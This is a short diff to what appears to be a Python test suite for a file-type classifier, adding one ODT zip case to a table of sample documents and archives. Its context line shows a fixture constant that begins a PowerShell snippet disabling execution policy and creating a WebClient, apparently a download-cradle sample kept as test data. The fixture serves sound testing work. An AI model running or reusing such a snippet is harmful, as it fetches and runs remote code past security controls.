@@ -40,6 +40,7 @@ POWERSHELL = b"Set-ExecutionPolicy Bypass\n$client = New-Object System.Net.WebCl
         ("x", docx(), Family.OFFICE),
         ("x.docx", docx(kind=DOCM), Family.OFFICE),
         ("x", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, 0), Family.OFFICE),
+        ("x", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), Family.OFFICE),
         ("game.sb3", zipped({"project.json": "{}"}), Family.OFFICE),
         ("x", b"{\\rtf1 hello}", Family.RTF),
         ("x", tarred({"a.txt": b"hi"}), Family.ARCHIVE),
